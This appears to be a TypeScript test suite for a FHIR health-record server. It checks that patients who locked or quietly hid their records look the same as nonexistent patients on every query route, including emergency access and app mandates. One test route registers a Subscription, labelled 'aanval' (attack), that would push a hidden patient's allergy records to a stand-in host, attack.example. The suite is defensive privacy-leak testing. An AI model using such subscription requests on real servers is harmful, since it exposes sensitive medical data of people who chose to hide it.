/**
 * The named tries about a person who hid everything, beside nobody: the absolute lock at every
 * route of a partner, emergencies and figures included; quiet mode, which no partner may see and
 * behind which an app sees what it sees of an empty record; and the parts that a mandate leaves
 * out.
 */
import { ended, filesOf, jobOf } from './follow-export.ts';
import { FORMS, seen } from './in-every-form.ts';
import { claimsOf } from './installation.ts';
import type { Answer, Ask } from './line.ts';
import { BSN_SYSTEM as BSN, FHIR_JSON } from './send-bundle.ts';
import {
  expectations,
  type Ground,
  item,
  permit,
  type Stage,
  stage,
  TREAT,
  type Try,
  totalOf,
} from './tries.ts';
import { hex, type Json, makeBsn, type Rule } from './world.ts';

/** Somebody as a partner may name them: there and hidden, or never there. */
interface Name {
  readonly patient: string;
  readonly item: string;
  readonly bsn: string;
}

const ASYNC = { prefer: 'respond-async' };

/** Every route at which a partner could hope to hear of one person. */
const ROUTES: readonly ((name: Name) => Ask)[] = [
  ({ patient }) => ({ path: `Patient/${patient}` }),
  ({ patient }) => ({ path: `Patient/${patient}`, method: 'HEAD' }),
  ({ patient }) => ({ path: `Patient/${patient}`, headers: { 'if-none-match': 'W/"1"' } }),
  ({ patient }) => ({ path: `Patient/${patient}/_history` }),
  ({ patient }) => ({ path: `Patient/${patient}/$everything` }),
  ({ patient }) => ({ path: `Patient/${patient}/$summary` }),
  ({ patient }) => ({ path: `Patient/${patient}/$export`, headers: ASYNC }),
  ({ patient }) => ({ path: `Patient?_id=${patient}` }),
  ({ bsn }) => ({ path: 'Patient/_search', form: [['identifier', `${BSN}|${bsn}`]] }),
  ({ item: id }) => ({ path: `AllergyIntolerance/${id}` }),
  ({ item: id }) => ({ path: `AllergyIntolerance/${id}/_history/1` }),
  ...['AllergyIntolerance', 'Condition', 'Consent', 'Encounter', 'Task', 'Provenance'].flatMap(
    (type) => [
      ({ patient }: Name): Ask => ({ path: `${type}?patient=${patient}` }),
      ({ patient }: Name): Ask => ({ path: `${type}?patient=${patient}&_summary=count` }),
      ({ bsn }: Name): Ask => ({
        path: `${type}/_search`,
        form: [['patient.identifier', `${BSN}|${bsn}`]],
      }),
    ],
  ),
  ({ patient }) => ({ path: `AuditEvent?patient=${patient}` }),
  ({ patient }) => ({ path: `Measure/$evaluate-measure?subject=Patient/${patient}` }),
  ({ patient }) => ({
    path: 'Subscription',
    headers: FHIR_JSON,
    body: JSON.stringify({
      resourceType: 'Subscription',
      status: 'requested',
      reason: 'aanval',
      criteria: `AllergyIntolerance?patient=${patient}`,
      channel: { type: 'rest-hook', endpoint: 'https://attack.example/gehoord' },
    }),
  }),
];

/** What somebody in need would say, and what a treating doctor would. */
const NEEDS: readonly (readonly [what: string, client: 'reader' | 'post', claims: Json])[] = [
  ['for treatment', 'reader', claimsOf(TREAT)],
  ['for hand-over', 'reader', claimsOf({ ...TREAT, purpose: 'COC' })],
  ...(['urgent', 'vital'] as const).map(
    (level) =>
      [
        level,
        'post',
        claimsOf({
          ...{ purpose: 'ETREAT', person: 'dokter-1', role: '01.015' },
          emergency: { level, patientIncapable: true },
        }),
      ] as const,
  ),
];

const STATED = ['etag', 'last-modified', 'content-location', 'location', 'link', 'retry-after'];

/** Status, what the headers say, and the words, without the names. */
function told(answer: Answer, name: Name): string {
  const names = Object.values(name).filter((one) => one !== '');
  const bare = names
    .reduce((text, word) => seen({ ...answer, body: text }, word), answer.body)
    .replace(/urn:uuid:[0-9a-f-]{36}/g, '');
  const headers = STATED.filter((one) => answer.headers[one] !== undefined).join(' ');
  return `${answer.status} ${headers} ${bare}`;
}

async function files(ground: Ground, token: string, asked: Answer): Promise<string> {
  const job = jobOf(asked);
  if (job === undefined) return '';
  const { line } = ground.to;
  const names = filesOf(await ended(line, { token }, job)).map((path) => path.replace(job, ''));
  await line.ask({ path: job, token, method: 'DELETE' });
  return names.join(' ');
}

const nameOf = (set: Stage): Name & Record<string, string> => ({
  ...Object.fromEntries(set.ids),
  patient: set.ids.get(`patient:${set.holder.name}`) ?? '',
  item: set.ids.get('11') ?? '',
  bsn: set.world.bsn,
});

const locked: Try = {
  number: 27,
  name: 'the absolute lock, beside nobody, at every route and in an emergency',
  needs: 'rules',
  async run(ground) {
    const { to, random } = ground;
    const { wrong, equal } = expectations();
    const all = { level: 'any' } as const;
    const set = await stage(
      ground,
      (holder) => [item('11', 'AllergyIntolerance', holder), item('12', 'Condition', holder)],
      (holder, reader) => [
        permit(holder, reader),
        permit(holder, reader, {
          ...{ type: 'deny', absolute: true, holder: all, recipient: all },
          data: { level: 'all' },
        }),
      ],
    );
    const there = nameOf(set);
    const open = await stage(
      ground,
      (holder) => [item('11', 'AllergyIntolerance', holder)],
      (holder, reader) => [permit(holder, reader)],
    );
    const plain = await open.read(`Patient/{patient:${open.holder.name}}`);
    equal('who hid nothing is there', plain.status, 200);
    const never = (id: string) => id.replace(/[0-9a-f]{12}$/, hex(random, 12));
    const absent = { patient: never(there.patient), item: never(there.item), bsn: makeBsn(random) };
    const post = to.partners.find(({ type }) => type === 'N6');
    for (const [what, who, claims] of NEEDS) {
      const client = who === 'reader' ? set.reader.client : post?.client;
      if (client === undefined) continue;
      const token = await to.token(client, claims);
      const isWhole = what === 'for treatment' || what === 'vital';
      for (const { version, format } of isWhole ? FORMS : FORMS.slice(0, 1)) {
        for (const [at, route] of ROUTES.entries()) {
          const answers: string[] = [];
          for (const name of [there, absent]) {
            const { path, headers, ...ask } = route(name);
            const answer = await to.line.ask({
              ...ask,
              ...{ path: `/fhir/${version}/${path}`, token },
              headers: { accept: `application/fhir+${format}`, ...headers },
            });
            answers.push(`${told(answer, name)} ${await files(ground, token, answer)}`);
          }
          equal(`${what}, ${version} ${format}, route ${at + 1}`, answers[0], answers[1]);
        }
      }
    }
    return wrong;
  },
};

const QUIET = { type: 'deny', quiet: true, recipient: { level: 'any' } } as const;

const quiet: Try = {
  number: 28,
  name: 'quiet mode: nothing for an app, and nothing to see of it for a partner',
  needs: 'rules',
  async run(ground) {
    const { to } = ground;
    const { wrong, equal } = expectations();
    if (!to.askAsApp) return [];
    const conditions = ['11', '12'];
    const make = (keys: readonly string[], rules: readonly Partial<Rule>[]) =>
      stage(
        ground,
        (holder) => [
          item('19', 'Flag', holder),
          ...keys.map((key) => item(key, 'Condition', holder)),
        ],
        (holder, reader) => [
          permit(holder, reader),
          ...rules.map((more) =>
            permit(holder, reader, { holder: { level: 'any' }, data: { level: 'all' }, ...more }),
          ),
        ],
      );
    const hidden = await make(conditions, [QUIET as Partial<Rule>]);
    const open = await make(conditions, []);
    const empty = await make([], []);
    const path = `Condition?patient={patient:${hidden.holder.name}}&_count=1`;
    const partner = async (set: Stage) => told(await set.read(path), nameOf(set)).length;
    equal('what a partner is told', await partner(hidden), await partner(open));
    equal('how much', totalOf(await hidden.read(path)), 2);
    for (const authority of [undefined, 'voluntary:alles']) {
      const app = async (set: Stage) =>
        told(
          (await (
            await to.askAsApp?.(set.world, set.holder, authority)
          )?.()) as Answer,
          nameOf(set),
        );
      equal(`an app (${authority ?? 'the person'})`, await app(hidden), await app(empty));
      equal('without it', (await app(open)) === (await app(empty)), false);
    }
    return wrong;
  },
};

const mandate: Try = {
  number: 29,
  name: 'what a mandate leaves out, beside a record without it',
  async run(ground) {
    const { to } = ground;
    const { wrong, equal } = expectations();
    if (!to.askAsApp) return [];
    const make = (keys: readonly string[]) =>
      stage(
        ground,
        (holder) => [
          item('19', 'Flag', holder),
          ...keys.map((key) => item(key, 'Condition', holder)),
        ],
        () => [],
      );
    const [full, empty] = [await make(['11', '12']), await make([])];
    const app = async (set: Stage, authority: string) =>
      told(
        (await (
          await to.askAsApp?.(set.world, set.holder, authority)
        )?.()) as Answer,
        nameOf(set),
      );
    for (const kinds of ['medicijnen', 'uitslagen', 'brieven+afspraken', 'niets']) {
      const authority = `voluntary:${kinds}`;
      equal(authority, await app(full, authority), await app(empty, authority));
    }
    for (const kinds of ['klachten', 'alles', 'klachten+brieven']) {
      const authority = `voluntary:${kinds}`;
      const same = (await app(full, authority)) === (await app(empty, authority));
      equal(`${authority} sees no more`, same, false);
    }
    return wrong;
  },
};

export const HIDDEN: readonly Try[] = [locked, quiet, mandate];
